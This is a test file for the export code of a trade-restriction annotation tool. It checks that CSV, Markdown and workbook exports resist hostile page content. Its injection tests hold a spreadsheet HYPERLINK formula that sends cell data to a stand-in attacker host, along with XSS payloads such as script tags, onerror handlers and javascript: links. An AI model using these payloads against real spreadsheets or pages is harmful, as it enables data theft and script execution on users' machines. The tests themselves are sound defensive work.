/**
 * Protects the export of a page: each line is complete by itself, and a page cannot inject anything
 * into it.
 */
import { HtmlRenderer, Parser } from 'commonmark';
import fc from 'fast-check';
import { readXlsx } from 'hucre/xlsx';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { CardModel } from '../../../lib/card/model/card-model.ts';
import {
  exportCsv,
  exportMentions,
  exportText,
  exportWorkbook,
  fileName,
  type ExportRequest,
} from '../../../lib/card/export/export-mentions.ts';
import { linkTo } from '../../../lib/card/export/text-fragment.ts';
import { createMessages } from '../../../lib/i18n/messages.ts';
import { runs } from '../../support/runs.ts';

const gallium: CardModel = {
  id: 'mineral/gallium',
  kind: 'mineral',
  kindLabel: 'Mineral',
  name: 'Gallium',
  tile: { type: 'element', symbol: 'Ga', number: 31 },
  lang: 'en-GB',
  contentLang: 'en',
  hasThen: true,
  what: { text: 'A soft metal.', refs: [1] },
  changed: true,
  verified: '',
  groups: [],
  unchanged: [],
  fresh: [],
  horizontal: [],
  apart: [],
  facts: [],
  members: [],
  related: [],
  unconfirmed: [],
  doubts: '',
  acts: [],
  parties: [],
  names: [],
  sources: [
    {
      n: 1,
      publisher: 'USGS',
      title: 'Gallium',
      about: '',
      date: '6 Feb 2026',
      url: 'https://usgs.example/gallium',
      grade: 'official',
      gradeWord: 'Official',
      read: true,
    },
    {
      n: 2,
      publisher: 'MOFCOM',
      title: 'Announcement 72',
      about: '',
      date: '9 Nov 2025',
      url: 'https://mofcom.example/72',
      grade: 'official',
      gradeWord: 'Official',
      read: true,
    },
  ],
  newest: 'Nov 2025',
  statusThen: [{ text: 'Refused in principle (China to United States)', refs: [2] }],
  statusNow: [{ text: 'Suspended 9 Nov 2025 to 27 Nov 2026 (China to United States)', refs: [2] }],
  restrains: ['export'],
  list: 'Built-in list, version 1',
};
const mention = {
  n: 0,
  entry: 'mineral/gallium',
  kind: 'mineral',
  name: 'Gallium',
  text: 'gallium',
  quote: 'Beijing put gallium under licence.',
  before: 'Beijing put',
  after: 'under licence.',
  personal: false,
};
const request: ExportRequest = {
  page: {
    url: 'https://news.example/story#top',
    title: 'Beijing guards its metals',
    lang: 'en',
    articleDay: '2025-07-18',
    underlined: { fewer: 0, normal: 0, all: 0 },
    frames: [],
    dateSource: 'meta',
    mentions: [mention],
  },
  mentions: [mention],
  card: (id) => (id === gallium.id ? gallium : null),
  today: '2026-11-24',
  list: 'Built-in list, version 1',
  t: createMessages('en'),
};

it('exports a line with the mention, its place, the status then and now, and the sources', async () => {
  const [line] = Papa.parse<Record<string, string>>((await exportCsv(request)).replace('\ufeff', ''), {
    header: true,
  }).data;
  expect(line).toMatchObject({
    quote: 'Beijing put gallium under licence.',
    link: 'https://news.example/story#top:~:text=Beijing%20put-,gallium,-under%20licence.',
    article_date: '2025-07-18',
    entry_id: 'mineral/gallium',
    status_on_article_date: 'Refused in principle (China to United States) [2]',
    status_on_day: 'Suspended 9 Nov 2025 to 27 Nov 2026 (China to United States) [2]',
    day: '2026-11-24',
    newest_source: 'Nov 2025',
    // The source of the status, and not those of other sentences of the card.
    sources: '[2] MOFCOM, Announcement 72, 9 Nov 2025. https://mofcom.example/72',
    list: 'Built-in list, version 1',
  });
});

it.each(['csv', 'json', 'markdown'] as const)('links to the page of a document, in %s', async (format) => {
  const page = { ...request.page, url: 'https://law.example/46.pdf#view=fit' };
  const told = await exportMentions(format, { ...request, page, mentions: [{ ...mention, page: 12 }] });
  expect(told).toContain('https://law.example/46.pdf#page=12');
  // A file on the user's computer has no address.
  const local = { ...request, page: { ...page, url: '' }, mentions: [{ ...mention, page: 12 }] };
  expect(await exportMentions(format, local)).not.toContain('#page');
});

it('exports the same as JSON, and as notes grouped by entry', () => {
  expect(JSON.parse(exportText('json', request))).toMatchObject({
    url: request.page.url,
    mentions: [{ entry: 'Gallium', restrains: 'exports' }],
  });
  const notes = exportText('markdown', {
    ...request,
    mentions: [mention, { ...mention, n: 1, quote: 'More gallium.' }],
  });
  expect(notes.match(/^## /gm)).toHaveLength(1);
  expect(notes).toContain('- On the article’s date (2025-07-18): Refused in principle');
  const held = {
    ...gallium,
    statusNow: ['Paused (China to United States)', 'Licence needed (China to all destinations)'].map((text) => ({
      text,
      refs: [],
    })),
  };
  expect(exportText('markdown', { ...request, card: () => held })).toContain(
    ':\n  - Paused (China to United States)\n  - Licence needed (China to all destinations)\n',
  );
  expect(notes).toContain('- [2] MOFCOM, Announcement 72, 9 Nov 2025. <https://mofcom.example/72>');
});

/**
 * Characters that make a spreadsheet run a cell. Before them come those that it skips or takes for
 * the end of a line or cell.
 */
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const BEFORE = ['', ' ', '\t', '\r', '\n', '\r\n', '\v', '\f', '\x85', '\u2028', '\u2029', ';', '; ', '\u2028;'];
const RUNS_IN_A_SPREADSHEET = /(?:^|[;\t\v\f\r\n\x85\u2028\u2029])\s*[=+\-@＝＋－＠]/;

/** An export in which every text of the page and of the list is `text`. */
const withText = (text: string): ExportRequest => ({
  ...request,
  page: { ...request.page, title: text, articleDay: text },
  mentions: [{ ...mention, text, quote: text }],
  list: text,
  card: () => ({
    ...gallium,
    name: text,
    kindLabel: text,
    open: text,
    newest: text,
    statusThen: [{ text, refs: [1] }],
    statusNow: [
      { text, refs: [1] },
      { text, refs: [] },
    ],
    sources: gallium.sources.map((source) => ({ ...source, publisher: text, title: text, date: text })),
  }),
});

describe('a malicious page or list', () => {
  it('cannot put a formula into a spreadsheet, or part of a cell onto a second line', async () => {
    for (const before of BEFORE)
      for (const start of STARTS) {
        const file = await exportCsv(withText(`${before}${start}HYPERLINK("https://evil.example/?q="&B2,"x")`));
        const cells = Papa.parse<string[]>(file.replace('\ufeff', ''), { skipEmptyLines: true }).data.flat();
        expect(cells).toHaveLength(34);
        expect(cells.filter((cell) => RUNS_IN_A_SPREADSHEET.test(cell))).toEqual([]);
        expect(file.split(/[\r\n\v\f\x85\u2028\u2029]+/)).toHaveLength(3);
      }
  });

  const ours = renderedElements(exportText('markdown', withText('words')));
  it.each([
    ['an image', '![x](https://evil.example/seen.png)'],
    ['an image by reference', '![x][y]\n\n[y]: https://evil.example/seen.png'],
    ['a link', '[sign in](javascript:alert(1))'],
    ['a link in angle brackets', '<https://evil.example>'],
    ['HTML', '<img src=https://evil.example/seen.png onerror=alert(1)>'],
    ['HTML after a line break', 'Trade\n\n<script>alert(1)</script>'],
    ['HTML after a separator that programs differ about', 'Trade\u2028\u2028<iframe src=//evil.example>'],
    ['a character reference', '&lt;b&gt;'],
    ['a heading', 'Trade\n# News'],
    ['a heading by its underline', 'Trade\n==='],
    ['a list', '- one\n- two'],
    ['a numbered list', '1. one\n2) two'],
    ['a rule', '***\n---\n___'],
    ['code', '`a` ``b`` \n```\nc\n```\n    d'],
    ['emphasis', '*a* **b** _c_ ~~d~~'],
    ['a backslash before markup', '\\*a\\* \\<b>'],
  ])('cannot put markup into notes: %s', (_, text) => {
    expect(renderedElements(exportText('markdown', withText(text)))).toEqual(ours);
  });

  it('cannot put markup into notes, and keeps its words', () => {
    const piece = fc.constantFrom(
      ...'!()[]<>*_`~#&;:\\\n\r\t -=+.|$^"\'1a',
      '\u2028',
      'https://e.example/',
      '<b>',
      '&amp;',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const text = `w${pieces.join('')}`;
        const notes = exportText('markdown', withText(text));
        expect(renderedElements(notes)).toEqual(ours);
        const heading = new Parser().parse(notes).firstChild;
        const words = text.replace(/[\s\u2028]+/g, ' ').trim();
        expect(heading && textIn(heading).replace(/\s+/g, ' ')).toBe(words);
      }),
      runs(300),
    );
  });

  it.each([
    `https://news.example/story)![](https://evil.example/seen.png)[x](y`,
    'https://news.example/story> <img src=https://evil.example/seen.png>',
    'https://news.example/story\n\n![](https://evil.example/seen.png)',
    'https://news.example/a`b\\',
  ])('cannot put markup into notes by its address: %s', (url) => {
    const notes = exportText('markdown', {
      ...request,
      page: { ...request.page, url },
      card: () => ({ ...gallium, sources: gallium.sources.map((source) => ({ ...source, url })) }),
    });
    expect(renderedElements(notes)).toEqual(renderedElements(exportText('markdown', request)));
    expect(notes).not.toContain('](https://evil');
  });

  it('cannot put a link that runs code into notes', () => {
    const notes = exportText('markdown', {
      ...request,
      page: { ...request.page, url: 'javascript:alert(1)//https://news.example/' },
    });
    expect(new HtmlRenderer().render(new Parser().parse(notes))).not.toMatch(/href="javascript:/i);
  });
});

/** The names of the elements that a Markdown program makes of notes, in order. */
function renderedElements(notes: string): string[] {
  const found: string[] = [];
  const walker = new Parser().parse(notes).walker();
  for (let event = walker.next(); event; event = walker.next())
    if (event.entering && event.node.type !== 'text') found.push(event.node.type);
  return found;
}

function textIn(node: {
  walker: () => { next: () => { entering: boolean; node: { literal: string | null } } | null };
}) {
  const walker = node.walker();
  let text = '';
  for (let event = walker.next(); event; event = walker.next()) text += event.node.literal ?? '';
  return text;
}

it('exports a quote that contains half a character', () => {
  expect(exportText('json', { ...request, mentions: [{ ...mention, text: 'a\ud83d' }] })).toContain(
    '#top:~:text=Beijing%20put-,a%EF%BF%BD,',
  );
});

it('exports an entry that the base no longer has by its name', () => {
  expect(exportText('json', { ...request, card: () => null })).toContain('"entry": "Gallium"');
});

it('exports an ECCN unchanged: as text in a workbook, escaped in CSV', async () => {
  const eccn = { ...request, mentions: [{ ...mention, text: '3E001' }] };
  const [line] = Papa.parse<Record<string, string>>((await exportCsv(eccn)).replace('\ufeff', ''), {
    header: true,
  }).data;
  expect(line?.['text']).toBe("'3E001");
  const { sheets } = await readXlsx(await exportWorkbook(eccn));
  const [header = [], row = []] = sheets[0]?.rows ?? [];
  expect(row[header.indexOf('text')]).toBe('3E001');
  expect(row[header.indexOf('status_on_day')]).toContain('Suspended 9 Nov 2025');
  expect(row.every((cell) => typeof cell === 'string' || cell === null)).toBe(true);
});

it('exports one line an entry in short form, with its status and one source', () => {
  const many = Array.from({ length: 40 }, (_, n) => ({ ...mention, n, quote: `Sentence ${n} on gallium. `.repeat(9) }));
  const short = exportText('short', { ...request, mentions: many });
  expect(short).toContain(
    '- **Gallium** (Mineral, 40 mentions) · Suspended 9 Nov 2025 to 27 Nov 2026 (China to United States) · MOFCOM, Announcement 72, 9 Nov 2025 <https://mofcom.example/72>\n',
  );
  expect(short.length).toBeLessThan(exportText('markdown', { ...request, mentions: many }).length / 10);
  const ours = renderedElements(exportText('short', withText('words')));
  for (const text of ['![x](https://evil.example/seen.png)', '<img src=x>', 'a\n# b', '**c**'])
    expect(renderedElements(exportText('short', withText(text)))).toEqual(ours);
});

it('escapes the brackets of a text fragment, which would end a link in notes', () => {
  expect(linkTo('https://news.example/', 'BIS (Commerce)', '', '')).toBe(
    'https://news.example/#:~:text=BIS%20%28Commerce%29',
  );
});

it('escapes hyphens in a text fragment, which would divide it, and replaces a fragment that the address has already', () => {
  expect(linkTo('https://news.example/#:~:text=old', 'de-risking', '', '')).toBe(
    'https://news.example/#:~:text=de%2Drisking',
  );
});

it('names the file after the page, in any script, without characters that a system refuses', () => {
  expect(fileName('csv', '稀土: China/US?', '2026-11-24')).toBe('tradegloss-2026-11-24-稀土-china-us.csv');
  expect(fileName('markdown', '???', '2026-11-24')).toBe('tradegloss-2026-11-24.md');
});
